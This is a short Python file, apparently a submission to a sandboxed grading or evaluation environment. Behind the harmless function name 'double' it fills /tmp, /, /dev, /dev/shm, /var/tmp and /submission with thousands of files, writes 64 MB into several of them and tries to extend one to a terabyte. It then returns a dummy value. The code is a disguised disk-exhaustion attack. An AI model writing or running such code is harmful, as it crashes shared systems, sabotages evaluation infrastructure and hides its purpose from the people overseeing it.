"""Fills every place that can be written to, with large files and with very many."""
import os


def double(x):
    for folder in ("/tmp", "/", "/dev", "/submission", "/dev/shm", "/var/tmp"):
        for number in range(20_000):
            try:
                with open(f"{folder}/gptwb-mark-{number}", "wb") as file:
                    if number < 10:
                        file.write(b"x" * 2**26)
            except OSError:
                if number > 20:
                    break
        try:
            os.truncate(f"{folder}/gptwb-mark-0", 2**40)
        except OSError:
            pass
    return 0.0
